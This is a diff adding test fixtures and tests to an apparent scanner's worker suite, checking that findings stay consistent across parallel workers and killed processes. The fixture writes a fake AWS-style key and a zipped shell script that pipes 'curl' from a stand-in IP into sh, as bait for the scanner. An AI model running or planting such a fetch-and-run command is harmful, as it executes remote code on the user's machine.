@@ -15,6 +15,7 @@ import tarfile
 import tempfile
 import time
 import unittest
+import zipfile
 
 from patience import wait_for
 
@@ -88,6 +89,23 @@ class Workers(unittest.TestCase):
         with tarfile.open(cls.tar, 'w:gz', compresslevel=1) as tar:
             tar.add(cls.folder, arcname='.')
 
+        # More than anybody holds at once: as text with markers at its begin and its end, and as an archive.
+        cls.large = cls.temp / 'large'
+        cls.large.mkdir()
+        with open(cls.large / 'a.txt', 'wb') as f:
+            f.write(MARKER.encode() * 3)
+            for _ in range(65):
+                f.write(rng.randbytes(1 << 20).translate(letters))
+            f.write(b'\naws_key = "AKIAY3FJDRX5WQ7ZPGLK"\n')
+        with zipfile.ZipFile(cls.large / 'c.zip', 'w') as z:
+            z.write(cls.large / 'a.txt', 'inner/a.txt')
+            z.writestr('inner/b.sh', '#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n')
+        for i in range(9):
+            (cls.large / f'd{i}.txt').write_text(MARKER + str(i))
+        cls.large_tar = cls.temp / 'large.tar.gz'
+        with tarfile.open(cls.large_tar, 'w:gz', compresslevel=1) as tar:
+            tar.add(cls.large, arcname='.')
+
     def rules(self, report):
         return sorted((f['rule'], f['subject']['name']) for t in report['targets'] for f in t['findings'])
 
@@ -102,6 +120,30 @@ class Workers(unittest.TestCase):
             self.assertTrue(rows[0][0], target)
             for row in rows[1:]:
                 self.assertEqual(row, rows[0], target)
+
+    def test_what_nobody_can_hold_is_told_the_same(self):
+        cut = self.temp / 'cut.tar.gz'
+        cut.write_bytes(self.large_tar.read_bytes()[:self.large_tar.stat().st_size * 2 // 5])
+        for target in (self.large, self.large_tar, cut):
+            seen = []
+            for how in (['--unconfined'], ['-j', 1], ['-j', 3]):
+                t = finish(start(*how, target))['targets'][0]
+                seen.append((self.rules({'targets': [t]}), t['counts'], t['unread'], [f['id'] for f in t['findings']]))
+            self.assertIn('a.txt', str(seen[0]), target)
+            for row in seen[1:]:
+                self.assertEqual(row, seen[0], target)
+
+    def test_the_rest_is_told_when_workers_die_over_what_flows(self):
+        whole = self.rules(finish(start(self.large_tar)))
+        for round in range(2):
+            report, killed = self.kill_some(self.large_tar, signal.SIGKILL if round % 2 else signal.SIGSEGV, 1 + round % 2, '-j', 2)
+            t = report['targets'][0]
+            lost = {g['what'] for g in t['unread']['list'] if g['why'] == 'parser-died'}
+            self.assertLessEqual(len(lost), killed)
+            rest = {r for r in self.rules(report) if r[0] != 'File that ended the worker reading it'}
+            # Members are told as they come: of an archive that is lost, some may stand.
+            gone = {r for r in whole if any(r[1].startswith(name) for name in lost)}
+            self.assertEqual(rest - gone, set(whole) - gone)
 
     def test_walls_stand_around_every_worker(self):
         checked = 0
